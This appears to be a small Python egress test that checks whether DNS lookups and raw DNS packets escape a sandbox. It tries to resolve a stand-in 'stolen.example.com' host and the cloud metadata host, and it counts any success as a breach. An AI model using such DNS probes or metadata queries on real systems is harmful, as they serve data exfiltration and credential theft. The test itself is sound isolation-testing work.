"""Asks for names that carry data: nobody is asked."""
import socket
import struct

QUERY = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + b"\6stolen\7example\3com\0" + struct.pack("!2H", 1, 1)


NAMES = ("stolen.example.com", "metadata.google.internal", "stolen.local")


def main(servers, names=NAMES):
    breaches = []
    for name in names:
        for ask in (socket.gethostbyname, lambda name: socket.getaddrinfo(name, 80)):
            try:
                breaches.append(f"{name} is {ask(name)}")
            except OSError:
                pass
    for server, port in servers:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                sender.settimeout(0.3)
                sender.sendto(QUERY, (server, port))
                breaches.append(f"asked {server}")
                sender.recv(512)
        except OSError:
            pass
    return {"tried": len(names) + len(servers), "breaches": breaches}
